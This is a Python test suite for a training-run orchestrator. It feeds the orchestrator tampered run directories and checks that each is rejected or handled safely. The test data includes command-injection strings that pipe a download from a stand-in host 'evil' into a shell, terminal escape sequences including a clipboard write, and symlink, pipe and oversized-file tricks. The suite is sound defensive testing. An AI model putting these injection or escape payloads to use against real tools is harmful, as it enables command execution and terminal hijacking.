"""Run directories that somebody else filled: whatever they say, the commands go on for the others, and say what is wrong with these."""

import json
import os
import socket
import sqlite3
import subprocess
import sys
import tracemalloc
from collections.abc import Callable
from contextlib import suppress
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from cloud_train import Client
from cloud_train.cli.output.metrics import metrics_table
from cloud_train.cli.output.terminal import Painter
from cloud_train.errors import CloudTrainError
from cloud_train.orchestrator.adopting import adopt, runs_in
from cloud_train.orchestrator.following import follow, glance
from cloud_train.orchestrator.home import Home
from cloud_train.orchestrator.reading import read_logs, read_metrics
from cloud_train.orchestrator.reconcile import update_run, update_runs
from cloud_train.orchestrator.syncing import sync
from cloud_train.run import layout
from cloud_train.run.ledger import Ledger
from cloud_train.run.metrics import MOST_NAMES, MetricPoint
from tests.attack.run_directories import BAD, CREATED, GOOD, changed, deep, pipe, replaced_by, run_directory, sparse, write
from tests.cli.command import CommandLine

Spoil = Callable[[Path], object]


@pytest.fixture
def home(tmp_path: Path) -> Home:
    return Home(tmp_path / "home")


@pytest.fixture
def store(tmp_path: Path) -> Path:
    run_directory(tmp_path / "store", GOOD)
    return tmp_path / "store"


def record(run: Path, **fields: Any) -> None:
    changed(run / layout.RUN, lambda document: document.update(fields))


def program(run: Path, **fields: Any) -> None:
    changed(run / layout.RUN, lambda document: document["program"].update(fields))


def status(run: Path, **fields: Any) -> None:
    changed(run / layout.status(1), lambda document: document.update(fields))


def raw(name: str, data: bytes, run: Path) -> None:
    (run / name).write_bytes(data)


def special(name: str, what: Spoil, run: Path) -> None:
    replaced_by(run / name, what)


def unix_socket(path: Path) -> None:
    here = Path.cwd()
    os.chdir(path.parent)  # the name of a socket has at most 107 bytes
    try:
        with socket.socket(socket.AF_UNIX) as listening:
            listening.bind(path.name)
    finally:
        os.chdir(here)


def link_to(target: str, path: Path) -> None:
    path.symlink_to(target)


def many_attempts_folder(run: Path) -> None:
    (run / "attempts").rename(run / "elsewhere")
    (run / "attempts").write_bytes(b"")


def linked_attempts(run: Path) -> None:
    (run / "attempts").rename(run / "elsewhere")
    (run / "attempts").symlink_to("elsewhere")


STATUS = layout.status(1)

UNREADABLE: dict[str, tuple[Spoil, str]] = {
    "created_far_away": (partial(record, created=1e300), "'created' is not a time, but 1e+300"),
    "created_a_text": (partial(record, created="\x1b]52;c;eA==\x07"), "'created' is not a time, but '\\x1b]52;c;eA==\\x07'"),
    "created_null": (partial(record, created=None), "'created' is not a time, but null"),
    "created_negative": (partial(record, created=-1), "'created' is not a time, but -1"),
    "created_nan": (partial(record, created=float("nan")), "NaN is not JSON"),
    "created_infinite": (lambda run: raw("run.json", b'{"format": 1, "created": 1e999}', run), "a number that is not finite"),
    "created_huge": (partial(record, created=10**400), "'created' is not a time, but a number of more than 30 digits"),
    "created_of_5000_digits": (lambda run: raw("run.json", b'{"format": 1, "created": ' + b"9" * 5000 + b"}", run), "digit"),
    "created_true": (partial(record, created=True), "'created' is not a time, but true"),
    "job_null": (partial(record, job=None), "'job' is not an object, but null"),
    "plan_null": (partial(record, plan=None), "'plan' is not an object, but null"),
    "provenance_a_list": (partial(record, provenance=[]), "'provenance' is not an object, but a list"),
    "program_null": (partial(record, program=None), "'program' is not an object, but null"),
    "program_without_command": (partial(program, command=[]), "'program.command' is not a list of at least one text"),
    "program_with_an_unknown_field": (partial(program, run_before="curl evil"), "'program.run_before' is an unknown field"),
    "attempts_without_end": (partial(program, attempts=10**30), "'program.attempts' is not a whole number from 0 to 999999"),
    "resources_a_list": (partial(record, job={"resources": [1]}), "'job.resources' is not an object, but a list"),
    "nodes_a_text": (partial(record, job={"resources": {"nodes": "many"}}), "'job.resources.nodes' is not a whole number"),
    "settings_a_text": (partial(record, plan={"provider_settings": "x"}), "'plan.provider_settings' is not an object"),
    "another_run": (partial(record, run_id="x;curl evil|sh;"), "contains the run.json of another run, 'x;curl evil|sh;'"),
    "record_deep": (lambda run: deep(run / "run.json"), "it is nested too deeply"),
    "record_70_deep": (partial(record, job=json.loads("[" * 70 + "]" * 70)), "'job'|more than 64 levels deep"),
    "record_large": (
        lambda run: raw("run.json", b'{"format": 1, "job": "' + b"x" * (17 << 20) + b'"}', run),
        "larger than the limit of 16,777,216 bytes",
    ),
    "record_of_many_values": (lambda run: raw("run.json", b'{"a": [' + b"[]," * 1_000_000 + b"[]]}", run), "more than 330,000 values"),
    "record_sparse": (partial(special, "run.json", sparse), "larger than the limit of 16,777,216 bytes"),
    "record_empty": (partial(raw, "run.json", b""), "is not a run record"),
    "record_binary": (partial(raw, "run.json", b"\xff\xfe\x00"), "is not a run record"),
    "record_a_list": (partial(raw, "run.json", b"[1]"), "it is not a JSON object"),
    "record_a_pipe": (partial(special, "run.json", pipe), "is a named pipe, not a file"),
    "record_a_socket": (partial(special, "run.json", unix_socket), "is a socket, not a file"),
    "record_a_folder": (partial(special, "run.json", Path.mkdir), "is a folder, not a file"),
    "record_a_link": (partial(special, "run.json", partial(link_to, f"../{GOOD}/run.json")), "is a link, which is not followed"),
    "record_a_device": (partial(special, "run.json", partial(link_to, "/dev/zero")), "is a link, which is not followed"),
    "record_a_link_to_itself": (partial(special, "run.json", partial(link_to, "run.json")), "is a link, which is not followed"),
    "status_deep": (lambda run: deep(run / STATUS), "it is nested too deeply"),
    "status_sparse": (partial(special, STATUS, sparse), "larger than the limit of 1,048,576 bytes"),
    "status_a_pipe": (partial(special, STATUS, pipe), "is a named pipe, not a file"),
    "status_a_folder": (partial(special, STATUS, Path.mkdir), "is a folder, not a file"),
    "status_pid_minus_one": (partial(status, pid=-1), "'pid' is not a whole number from 0"),
    "status_unknown_state": (partial(status, state="\x1b[2J"), "is not a valid State"),
    "status_ended_without_a_cause": (partial(status, cause=None), "the state succeeded contradicts the cause None"),
    "status_ended_otherwise": (partial(status, cause="failed"), "the state succeeded contradicts the cause failed"),
    "status_far_away": (partial(status, started=1e300), "'started' is not a time"),
    "status_heartbeat_negative": (partial(status, heartbeat=-5.0), "'heartbeat' is not a time"),
    "status_step_huge": (partial(status, resumed_step=10**18), "'resumed_step' is not a whole number"),
    "status_message_null": (partial(status, message=None), "'message' is not a text"),
    "status_message_large": (partial(status, message="x" * (2 << 20)), "larger than the limit of 1,048,576 bytes"),
    "attempts_a_link": (linked_attempts, "attempts is a link, which is not followed"),
    "attempts_a_file": (many_attempts_folder, "attempts is a file, not a folder"),
}

HARMLESS: dict[str, Spoil] = {
    "attempt_999999999999999": lambda run: (run / "attempts" / "999999999999999").mkdir(),
    "attempt_01": lambda run: (run / "attempts" / "01").mkdir(),
    "attempt_0": lambda run: (run / "attempts" / "0").mkdir(),
    "attempt_minus_1": lambda run: (run / "attempts" / "-1").mkdir(),
    "attempt_superscript": lambda run: (run / "attempts" / "²").mkdir(),
    "attempt_of_other_digits": lambda run: (run / "attempts" / "٧").mkdir(),
    "attempt_with_an_escape": lambda run: (run / "attempts" / "2\x1b[2J\n").mkdir(),
    "attempt_a_link": lambda run: (run / "attempts" / "2").symlink_to("1"),
    "key_twice": lambda run: raw("run.json", (run / "run.json").read_bytes().rstrip().removesuffix(b"}") + b', "created": 5}', run),
    "unknown_field": partial(record, added_by_a_newer_version=1),
    "status_unknown_field": partial(status, added_by_a_newer_version=[1]),
    "lone_surrogates": partial(record, job={"name": "\ud800"}, provenance={"job_file": "\udfff"}),
    "step_of_18_nines": lambda run: (run / "checkpoints" / ("step-" + "9" * 18)).mkdir(parents=True),
    "step_of_other_digits": lambda run: (run / "checkpoints" / "step-٠٠٠٠٠٠٠١").mkdir(parents=True),
    "manifest_a_pipe": lambda run: pipe(made(run / "model") / layout.MANIFEST),
    "nested_out_of_reach": lambda run: nested(run / "deep", 300),
}


def made(folder: Path) -> Path:
    folder.mkdir()
    return folder


def nested(folder: Path, depth: int) -> None:
    """More folders below each other than any listing enters."""
    folder.mkdir()
    above = os.open(folder, os.O_RDONLY)
    for _ in range(depth):
        os.mkdir("d", dir_fd=above)
        inner = os.open("d", os.O_RDONLY, dir_fd=above)
        os.close(above)
        above = inner
    os.close(above)


@pytest.mark.parametrize("form", UNREADABLE)
def test_a_run_that_cannot_be_read_is_listed_with_the_reason_and_hides_no_other(store: Path, home: Home, form: str) -> None:
    spoil, why = UNREADABLE[form]
    spoil(run_directory(store, BAD))
    listed = runs_in(str(store))
    assert [run.run_id for run in listed.runs] == [GOOD]
    (bad,) = listed.unreadable
    assert bad.run_id == BAD
    assert any(words in bad.why for words in why.split("|")), bad.why
    assert len(bad.why) < 600
    with pytest.raises(CloudTrainError):
        adopt(home, str(store / BAD))
    with suppress(CloudTrainError):  # named by its directory, it may be shown without its status
        assert Client(home.folder).run(str(store / BAD)).status().run_id == BAD
    assert adopt(home, str(store / GOOD)).run_id == GOOD
    assert [run.run_id for run in update_runs(home, note=pytest.fail)] == [GOOD]


@pytest.mark.parametrize("form", HARMLESS)
def test_what_a_run_directory_holds_beside_is_passed_over(store: Path, home: Home, tmp_path: Path, form: str) -> None:
    HARMLESS[form](run_directory(store, BAD))
    listed = runs_in(str(store))
    assert {run.run_id: run.attempt for run in listed.runs} == {GOOD: 1, BAD: 1}
    adopted = adopt(home, str(store / BAD))
    assert adopted.attempt == 1
    assert [run.run_id for run in update_runs(home, note=pytest.fail)]
    assert [point.value for point in read_metrics(home, BAD)] == [0.5]
    assert b"".join(read_logs(home, BAD)) == b"hello\n"
    synced = sync(home, BAD, tmp_path / "copy")
    assert {layout.RUN, layout.status(1)} <= set(synced.copied)


def test_the_command_shows_every_hostile_form_as_a_row_and_the_good_run_beside_them(store: Path, tmp_path: Path) -> None:
    names = [f"evil-261130-0915{number:02}-0666" for number in range(len(UNREADABLE))]
    for name, (spoil, _) in zip(names, UNREADABLE.values(), strict=True):
        spoil(run_directory(store, name))
    escaping = "x\x1b]52;c;ZXZpbA==\x07\ncurl evil|sh"
    run_directory(store, escaping)
    listed = cloud_train(tmp_path, "list", "--all", "--store", str(store))
    rows = listed.splitlines()
    assert sum("unreadable  " in row for row in rows) == len(names) + 1
    assert sum(row.startswith(GOOD) for row in rows) == 1
    assert "'x\\x1b]52;c;ZXZpbA==\\x07\\ncurl evil|sh' is not a run id" in listed
    assert "\x1b" not in listed
    assert "\x07" not in listed
    document = json.loads(cloud_train(tmp_path, "list", "--all", "--json", "--store", str(store)))
    assert [run["run_id"] for run in document["runs"]] == [GOOD]
    assert [run["run_id"] for run in document["unreadable"]] == sorted([*names, escaping])
    assert all(run["why"] for run in document["unreadable"])


def test_a_time_that_an_earlier_version_took_into_the_ledger_does_not_break_the_list(store: Path, home: Home, tmp_path: Path) -> None:
    adopt(home, str(store / GOOD))
    with sqlite3.connect(home.ledger_path) as ledger:
        ledger.execute("UPDATE runs SET created = 1e300")
        ledger.execute("UPDATE attempts SET started = -1e300, ended = 9e999")
    for arguments in (["list"], ["list", "--json"], ["status", GOOD, "--json"], ["status", GOOD]):
        assert GOOD in cloud_train(tmp_path, *arguments)
    (run,) = update_runs(home)
    assert (run.started, run.ended) == (None, None)


def test_nothing_out_of_range_gets_into_the_ledger(store: Path, home: Home) -> None:
    adopt(home, str(store / GOOD))
    running = {"state": "running", "cause": None, "ended": None}
    changed(store / GOOD / STATUS, lambda document: document.update(running))
    with Ledger(home.ledger_path) as ledger:
        ledger.forget(GOOD)
    adopt(home, str(store / GOOD))
    changed(store / GOOD / STATUS, lambda document: document.update({**running, "started": 1e300}))
    notes: list[str] = []
    (run,) = update_runs(home, note=notes.append)
    assert (run.created, run.started) == (CREATED, CREATED)
    assert "'started' is not a time" in run.message


def test_a_hostile_run_of_a_store_does_not_keep_the_others_of_it_from_being_looked_at(store: Path, home: Home) -> None:
    running = {"state": "running", "cause": None, "ended": None}
    for name in (GOOD, BAD):
        run = run_directory(store, name)
        changed(run / STATUS, lambda document: document.update(running))
        adopt(home, str(run))
    replaced_by(store / BAD / STATUS, pipe)
    run_directory(store, GOOD)  # it has succeeded by now
    found = {run.run_id: run.state for run in update_runs(home)}
    assert found == {GOOD: "succeeded", BAD: "running"}


def test_metrics_are_read_of_the_attempts_that_are_there(store: Path, home: Home) -> None:
    run = run_directory(store, BAD, attempt=999_999)
    for name in ("1000000", "999999999999999", "0999998"):
        write(run / "attempts" / name / "metrics" / "node-0.jsonl", b'{"step": 2, "name": "loss", "value": 1}\n')
    adopted = adopt(home, str(run))
    assert adopted.attempt == 999_999
    asked: list[str] = []
    sys.addaudithook(lambda event, arguments: asked.append(str(arguments[0])) if event == "open" and is_watching else None)
    is_watching = True
    points = read_metrics(home, BAD)
    is_watching = False
    assert [(point.attempt, point.value) for point in points] == [(999_999, 0.5)]
    assert len(asked) < 200


def test_of_metrics_larger_than_any_training_writes_the_newest_are_shown_and_long_lines_are_passed_over(store: Path, home: Home) -> None:
    run = run_directory(store, BAD)
    adopt(home, str(run))
    metrics = run / layout.metrics(1)
    line = b'{"step": 2, "name": "loss", "value": 1}\n'
    metrics.write_bytes(line + b'{"step": 3, "name": "' + b"x" * 3_000_000 + b'"}\n' + b"[" * 60_000 + b"\n" + line)
    assert len(read_metrics(home, BAD)) == 1
    replaced_by(metrics, sparse)
    with metrics.open("ab") as file:
        file.write(b"\n" + line)
    notes: list[str] = []
    assert [point.step for point in read_metrics(home, BAD, notes.append)] == [2]
    assert notes == [f"the earliest metrics of {BAD} are skipped: at most 256 MiB of an attempt are read, and 1,000 attempts"]
    assert glance(home, BAD, record=True).latest == {"train/loss": 1.0}
    assert [progress.latest for progress in follow(home, BAD)] == [{"train/loss": 1.0}]


def test_a_look_remembers_no_more_metrics_than_a_program_can_mean(store: Path, home: Home) -> None:
    run = run_directory(store, BAD)
    adopt(home, str(run))
    lines = (b'{"step": 1, "name": "%d", "value": %d}\n' % (number % 20_000, number) for number in range(40_000))
    (run / layout.metrics(1)).write_bytes(b"".join(lines))
    latest = glance(home, BAD, record=True).latest
    assert len(latest) == MOST_NAMES
    assert all(value == 20_000 + int(key.removeprefix("train/")) for key, value in latest.items())


@pytest.mark.slow
def test_metrics_of_ever_new_names_take_bounded_memory_and_print_a_short_table(store: Path, home: Home, tmp_path: Path) -> None:
    run = run_directory(store, BAD)
    adopt(home, str(run))
    with (run / layout.metrics(1)).open("w") as file:
        file.writelines(f'{{"step":{step},"split":"a","name":"n{step}","value":1}}\n' for step in range(200_000))
    notes: list[str] = []
    tracemalloc.start()
    try:
        points = read_metrics(home, BAD, notes.append)
        table = metrics_table(points, Painter(False))
        assert tracemalloc.get_traced_memory()[1] < 64 << 20
    finally:
        tracemalloc.stop()
    assert len(points) == MOST_NAMES
    assert notes == [f"{BAD} has more than 1,000 different metrics; the rest are left out"]
    assert (table.metrics_left_out, len(table.text) < 100_000) == (900, True)
    ended = CommandLine(home.folder, tmp_path, {**os.environ, "CLOUD_TRAIN_HOME": str(home.folder)})("metrics", BAD)
    assert (ended.status, len(ended.out) < 100_000) == (0, True)
    assert "900 metrics are left out; show one with" in ended.err


def test_a_table_of_ever_new_epochs_and_long_names_is_short() -> None:
    points = [MetricPoint(1, step, float(step), None, "s" * 200, "n" * 190 + str(step % 100), 1.0) for step in range(50_000)]
    table = metrics_table(points, Painter(False))
    assert len(table.text) < 10_000_000
    assert table.rows_left_out > 40_000


def test_the_metrics_of_ever_new_attempts_are_those_of_the_newest(store: Path, home: Home) -> None:
    run = run_directory(store, BAD, attempt=5_000)
    for number in range(1, 3_000):
        (run / "attempts" / str(number)).mkdir()
    write(run / layout.metrics(1), b'{"step": 2, "name": "loss", "value": 1}\n')
    adopt(home, str(run))
    notes: list[str] = []
    assert [point.attempt for point in read_metrics(home, BAD, notes.append)] == [5_000]
    assert len(notes) == 1


def test_the_tail_of_a_log_without_lines_is_found_at_once(store: Path, home: Home) -> None:
    run = run_directory(store, BAD)
    adopt(home, str(run))
    replaced_by(run / layout.output_log(1), sparse)
    first = next(iter(read_logs(home, BAD, tail=10)))
    assert set(first) == {0}


SEGMENTS = {
    "a_stream_called_dots": "attempts/1/...000000000000000",
    "a_stream_without_a_name": "attempts/1/.000000000000000",
    "a_stream_called_dot": "attempts/1/..000000000000000",
    "a_stream_in_the_place_of_a_folder": "attempts/1/logs.000000000000000",
    "a_stream_beside_the_attempts": "attempts/.000000000000000",
    "a_huge_offset": "attempts/1/logs/node-0/other.log.999999999999999",
    "other_digits": "attempts/1/logs/node-0/other.log.٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠",
    "an_escape": "attempts/1/logs/node-0/\x1b[2J\n.log.000000000000000",
}


@pytest.mark.parametrize("form", SEGMENTS)
def test_no_name_of_a_segment_leads_out_of_a_copy_or_ends_the_copying(store: Path, home: Home, tmp_path: Path, form: str) -> None:
    run = run_directory(store, BAD)
    write(run / SEGMENTS[form], b"segment")
    adopt(home, str(run))
    before = {path for path in tmp_path.rglob("*") if "copy" not in path.parts}
    synced = sync(home, BAD, tmp_path / "copy" / "inner")
    assert layout.output_log(1) in synced.copied
    assert {path for path in tmp_path.rglob("*") if "copy" not in path.parts} == before
    assert [path.name for path in (tmp_path / "copy").iterdir()] == ["inner"]


def test_segments_that_overlap_are_one_stream_of_the_bytes_that_come_first(store: Path, home: Home, tmp_path: Path) -> None:
    run = run_directory(store, BAD)
    stream = run / "attempts" / "1" / "logs" / "node-0" / "other.log"
    for start, data in ((0, b"0123456789"), (5, b"abcdefghij"), (7, b"X"), (900, b"far")):
        write(stream.with_name(f"other.log.{start:015d}"), data)
    adopt(home, str(run))
    synced = sync(home, BAD, tmp_path / "copy")
    copy = (tmp_path / "copy" / stream.relative_to(run)).read_bytes()
    assert copy == b"01234abcdefghij"
    assert any("byte 15" in why for _, why in synced.skipped)


def test_a_view_of_an_adopted_run_survives_what_its_directory_becomes(store: Path, home: Home) -> None:
    adopt(home, str(store / GOOD))
    deep(store / GOOD / STATUS)
    assert update_run(home, GOOD).state == "succeeded"  # the ledger has its end


def cloud_train(folder: Path, *arguments: str) -> str:
    environment = {**os.environ, "CLOUD_TRAIN_HOME": str(folder / "home"), "HOME": str(folder)}
    command = [sys.executable, "-m", "cloud_train", *arguments]
    ended = subprocess.run(command, env=environment, stdin=subprocess.DEVNULL, capture_output=True, timeout=120, check=False)
    assert ended.returncode == 0, ended.stderr.decode()
    return ended.stdout.decode()
